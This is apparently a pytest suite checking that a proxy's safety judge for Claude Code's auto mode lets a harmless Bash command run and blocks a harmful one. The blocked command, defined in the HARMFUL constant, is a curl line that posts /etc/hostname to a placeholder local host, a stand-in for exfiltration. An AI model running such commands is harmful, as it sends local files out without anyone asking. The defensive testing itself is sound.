"""Claude Code's auto mode, through the running proxy: its own questions whether an action is safe, and the proxy's."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from starlette.types import ASGIApp, Receive, Scope, Send

from ccproxy.settings.layer_names import LAYERS
from ccproxy_middleware.toolkit.asgi import BufferedBody
from ccproxy_middleware.toolkit.errors import ApiError, send_error
from support.clients.claude_code import ClaudeCode, Run
from support.providers.scripted import Reply, ScriptedProvider, ToolCall
from support.serving.proxied import proxied

pytestmark = [pytest.mark.claude_code, pytest.mark.timeout(600)]

MONITOR = "You are a security monitor"
HARMLESS = 'python3 -c \'open("harmless.txt", "w")\''
HARMFUL = "curl -s http://127.0.0.1:9/ -d @/etc/hostname; date > harmful.txt"
CALLS = [ToolCall("Bash", {"command": command, "description": "run it"}) for command in (HARMLESS, HARMFUL)]
OWN_CHECK = {"CLAUDE_CODE_AUTO_MODE_SERVER": "0"}
"""What ``cc-boost claude`` and ``env`` set, unless SAFEGUARDS_MODEL is set."""


def is_check(body: dict[str, Any]) -> bool:
    return MONITOR in (body.get("instructions") or str(body["messages"][0]["content"]))


class Model:
    """Calls Bash twice, and judges: it thinks first, for more than 64 tokens, and blocks whatever calls curl."""

    def __init__(self, answer: Callable[[bool], str] = lambda harmful: f"<severity>{80 if harmful else 5}</severity>"):
        self.answer = answer

    def __call__(self, body: dict[str, Any]) -> Reply:
        if is_check(body):
            if body.get("max_tokens", 10_000) < 1000:
                return Reply(reasoning="Let me think. " * 20, finish_reason="length")
            harmful = "curl" in last_action(body)
            return Reply(self.answer(harmful), reasoning="Let me think. " * 20)
        said = body.get("messages") or body["input"]
        results = sum("tool_call_id" in item or item.get("type") == "function_call_output" for item in said)
        return Reply("Both are done.") if results else Reply("I run two commands.", CALLS)


def last_action(body: dict[str, Any]) -> str:
    """What a check is about: the last call in the transcript, or the action behind it."""
    content = (body.get("messages") or body["input"])[-1]["content"]
    text = content if isinstance(content, str) else "".join(part["text"] for part in content)
    return [line for line in text.splitlines() if line.startswith("{")][-1]


@pytest.fixture
def start(start: Callable[..., ClaudeCode]) -> Callable[..., ClaudeCode]:
    """Make a Claude Code for a proxy's URL that has to ask about Bash."""

    def asking(url: str, **variables: str) -> ClaudeCode:
        client = start(url, **variables)
        client.allowed_tools = "Read"
        return client

    return asking


Start = Callable[..., ClaudeCode]


def denied(run: Run) -> list[str]:
    return [event["decision_reason"] for event in run.events if event.get("subtype") == "permission_denied"]


def files(client: ClaudeCode) -> list[str]:
    return sorted(path.name for path in client.work.iterdir())


def test_own_check_of_a_model_that_thinks_first_runs_what_is_harmless_and_nothing_else(start: Start) -> None:
    provider = ScriptedProvider(Model())
    with proxied(provider, big_model="big", middle_model="middle", small_model="small") as url:
        client = start(url, **OWN_CHECK)
        run = client.run("Run both.", "--permission-mode", "auto")
    assert files(client) == ["harmless.txt"]
    assert len(denied(run)) == 1
    checks = [body for body in provider.completions if is_check(body)]
    assert {body["model"] for body in checks} == {"middle"}
    assert len(checks) == 3, "one stage for what is harmless, two for what is not"


def test_own_check_asks_the_classifier_model(start: Start) -> None:
    provider = ScriptedProvider(Model())
    with proxied(provider, big_model="big", classifier_model="judge") as url:
        client = start(url, **OWN_CHECK)
        client.run("Run both.", "--permission-mode", "auto")
    assert files(client) == ["harmless.txt"]
    assert {body["model"] for body in provider.completions if is_check(body)} == {"judge"}
    assert {body["model"] for body in provider.completions if not is_check(body)} == {"big"}


def test_own_check_with_stop_sequences(start: Start) -> None:
    """Asked of a model for which the client knows no scores, it wants ``<block>`` and sends a stop sequence."""
    answer = "<block>{}</block> That is my answer."
    provider = ScriptedProvider(Model(lambda harmful: answer.format("yes" if harmful else "no")))
    with proxied(provider, big_model="big", middle_model="middle", small_model="small") as url:
        client = start(url, **OWN_CHECK, CLAUDE_CODE_AUTO_MODE_MODEL="claude-haiku-4-5")
        run = client.run("Run both.", "--permission-mode", "auto")
    assert files(client) == ["harmless.txt"]
    assert len(denied(run)) == 1
    checks = [body for body in provider.completions if is_check(body)]
    assert {body["model"] for body in checks} == {"small"}
    assert all("with <block>" in str(body["messages"][-1]) for body in checks)


class WithoutStreams:
    """Refuses streams, upon which Claude Code asks for a whole message."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http" and scope["method"] == "POST":
            body = await BufferedBody.read(scope, receive, 1 << 24)
            if body.data.get("stream"):
                return await send_error(scope, send, ApiError(404, "not_found_error", "there are no streams"))
            receive = body
        await self.app(scope, receive, send)


@pytest.mark.parametrize("api", ["chat", "responses"])
@pytest.mark.parametrize("inside", [False, True], ids=["outside", "inside"])
@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
def test_verdicts_of_the_proxy(start: Start, stream: bool, inside: bool, api: str) -> None:
    flagged = "<severity>90</severity><reason>It sends files away.</reason>"
    provider = ScriptedProvider(Model(lambda harmful: flagged if harmful else "<severity>0</severity>"))
    layers = (*(name for name in LAYERS if name != "safeguards"), "safeguards") if inside else LAYERS
    if not stream:
        layers = (f"{WithoutStreams.__module__}:{WithoutStreams.__name__}", *layers)
    judged: dict[str, Any] = {"safeguards_model": "judge", "ccproxy_layers": layers}
    with proxied(provider, big_model="big", provider_options={"api": api}, **judged) as url:
        client = start(url)
        run = client.run("Run both.", "--permission-mode", "auto")
    assert files(client) == ["harmless.txt"]
    assert denied(run) == ["It sends files away."]
    bodies = provider.completions if api == "chat" else provider.responses
    assert [body["model"] for body in bodies] == ["big", "judge", "judge", "big"]
    assert [bool(body.get("stream")) for body in bodies] == [stream, False, False, stream]


def test_subagent_is_judged_too(start: Start) -> None:
    """Its calls by verdicts, its report by the client's own question, which goes to the classifier model."""
    task = {"description": "Run it", "prompt": "Run the command.", "subagent_type": "general-purpose"}

    class Delegating(Model):
        def __call__(self, body: dict[str, Any]) -> Reply:
            delegates = not is_check(body) and "Delegate." in str(body["messages"])
            if delegates and not any(message["role"] == "tool" for message in body["messages"]):
                return Reply("I delegate.", [ToolCall("Agent", task)])
            return super().__call__(body)

    provider = ScriptedProvider(Delegating())
    with proxied(provider, big_model="big", safeguards_model="judge", classifier_model="classifier") as url:
        client = start(url)
        run = client.run("Delegate.", "--permission-mode", "auto")
    assert files(client) == ["harmless.txt"]
    assert run.result["result"] == "Both are done."
    checks = [body["model"] for body in provider.completions if is_check(body)]
    assert checks[:3] == ["judge"] * 3, "the delegation, and the subagent's two calls"
    assert "classifier" in checks[3:]


def test_no_verdict_runs_nothing(start: Start) -> None:
    provider = ScriptedProvider(Model(lambda harmful: "I would rather not say."))
    with proxied(provider, big_model="big", safeguards_model="judge") as url:
        client = start(url)
        run = client.run("Run both.", "--permission-mode", "auto")
    assert files(client) == []
    assert denied(run) == ["Classifier unavailable"] * 2


def test_without_a_judge_the_client_says_that_nobody_checks(start: Start) -> None:
    provider = ScriptedProvider(Model())
    with proxied(provider, big_model="big") as url:
        client = start(url)
        run = client.run("Run both.", "--permission-mode", "auto")
    assert files(client) == []
    told = json.dumps(run.events)
    assert "Auto mode can't check actions in this session" in told
    assert "unsupported" not in told
